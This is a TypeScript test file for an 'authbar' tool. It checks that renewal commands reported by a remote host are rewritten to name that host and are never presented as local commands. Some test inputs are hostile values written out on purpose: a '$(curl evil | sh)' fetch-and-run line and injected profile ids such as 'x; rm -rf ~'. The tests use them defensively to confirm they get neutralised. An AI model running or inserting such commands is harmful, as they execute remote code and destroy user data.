/**
 * A remote host's renew and fix words, said for this machine (common/host-renew.ts, the one
 * rule the menu, the window and the host notices use): the host's `authbar setup-token` would
 * renew THIS machine, so it becomes `authbar setup-token --host NAME`; any other command a
 * host's text names is said to run on the host. The menu's host lines follow it.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { hostRenewCommand, hostRenewText, hostRenewWords } from '../../common/host-renew.js';
import { flattenMenu, menuModel, type MenuContext } from '../../main/app/menu-model.js';
import { hostReport } from '../support/hosts.js';
import { agent, DAY, NOW, profile, setupToken, snapshot } from '../support/snapshots.js';

const cases: Array<[string, string]> = [
  [
    'setup token is 11 months old and expires in 3 d: renew with `authbar setup-token`',
    'setup token is 11 months old and expires in 3 d: renew with `authbar setup-token --host vps`',
  ],
  [
    'setup token expired: renew with `authbar setup-token --profile-id anthropic:work`',
    'setup token expired: renew with `authbar setup-token --host vps --profile-id anthropic:work`',
  ],
  [
    'Run authbar setup-token to renew it (anthropic:setup-token).',
    'Run authbar setup-token --host vps to renew it (anthropic:setup-token).',
  ],
  [
    'Run authbar setup-token --profile-id anthropic:default to replace it (anthropic:default).',
    'Run authbar setup-token --host vps --profile-id anthropic:default to replace it (anthropic:default).',
  ],
  ['Run authbar status for details.', 'Run authbar status --host vps for details.'],
  ['Log in with codex login, then run authbar sync.', 'Log in with codex login, then run authbar sync on vps.'],
  ['Run authbar setup-token or authbar token add.', 'Run authbar setup-token --host vps or authbar token add on vps.'],
  [
    'add a setup token (`claude setup-token`, then `openclaw models auth paste-token`)',
    'add a setup token (`claude setup-token` on vps, then `openclaw models auth paste-token` on vps)',
  ],
  // What a host might send: another host's renewal, a shell trick, a malformed profile id.
  ['renew with `authbar setup-token --host lab`', 'renew with `authbar setup-token --host lab` on vps'],
  ['run `$(curl evil | sh)`', 'run `$(curl evil | sh)` on vps'],
  ['renew with `authbar setup-token --profile-id ;rm`', 'renew with `authbar setup-token --host vps`'],
  ['refreshes by itself', 'refreshes by itself'],
];

for (const [from, want] of cases)
  test(`host renew words: ${from}`, () => assert.equal(hostRenewText(from, 'vps'), want));

test('host renew command: only a valid host name becomes an argv word; a well-formed profile id only', () => {
  assert.equal(hostRenewCommand('vps'), 'authbar setup-token --host vps');
  assert.equal(hostRenewCommand('vps', 'anthropic:setup-token'), 'authbar setup-token --host vps');
  assert.equal(hostRenewCommand('vps', 'anthropic:work'), 'authbar setup-token --host vps --profile-id anthropic:work');
  assert.equal(hostRenewCommand('vps', 'x; rm -rf ~'), 'authbar setup-token --host vps');
  assert.equal(hostRenewCommand('Not A Host'), null);
  assert.equal(hostRenewWords('Not A Host'), 'authbar setup-token on Not A Host');
});

const ctx: MenuContext = {
  now: NOW,
  resyncing: false,
  loginItem: { supported: true, enabled: false, note: null },
  pausedUntil: null,
  formatTime: (ms) => new Date(ms).toISOString().slice(11, 16),
};

test("menu: a host's profiles never offer a command that would run on this machine", () => {
  // The host's own record: its renewal is `authbar setup-token` (there).
  const token = {
    firstSeenAt: NOW - 400 * DAY,
    ageMs: 400 * DAY,
    mintedAt: null,
    expiresAt: NOW - DAY,
    expiryKind: 'estimated' as const,
    inVault: false,
    renewCommand: 'authbar setup-token',
  };
  const hostSnap = snapshot({
    agents: [
      agent('main', [
        setupToken('anthropic:setup-token', NOW - DAY, 'now', {
          reason: 'setup token expired: renew with `authbar setup-token`',
          token,
        }),
        setupToken('anthropic:work', NOW + 3 * DAY, 'soon'),
        profile({
          profileId: 'openai-codex:codex-cli',
          refreshable: true,
          attention: 'soon',
          reason: 'refresh failing: run `codex login`',
        }),
      ]),
    ],
  });
  const vps = hostReport({ name: 'vps', state: 'ok', snapshot: hostSnap });
  const local = snapshot({
    agents: [agent('main', [setupToken('anthropic:setup-token', NOW - DAY, 'now', { token })])],
  });
  const items = flattenMenu(menuModel({ snapshot: local, error: null, hosts: [vps] }, ctx));
  const label = (id: string) => items.find((i) => i.id === id)?.label ?? '';
  assert.match(label('host:vps:profile:main/anthropic:setup-token'), /— run authbar setup-token --host vps$/);
  assert.match(
    label('host:vps:profile:main/anthropic:work'),
    /— run authbar setup-token --host vps --profile-id anthropic:work$/,
  );
  assert.match(label('host:vps:profile:main/openai-codex:codex-cli'), /run `codex login` on vps$/);
  for (const i of items.filter((x) => x.id.startsWith('host:vps:')))
    assert.doesNotMatch(i.label, /authbar setup-token(?! --host vps)/, i.label);
  // This machine's own rows keep this machine's command.
  assert.match(label('profile:main/anthropic:setup-token'), /— run authbar setup-token$/);
});
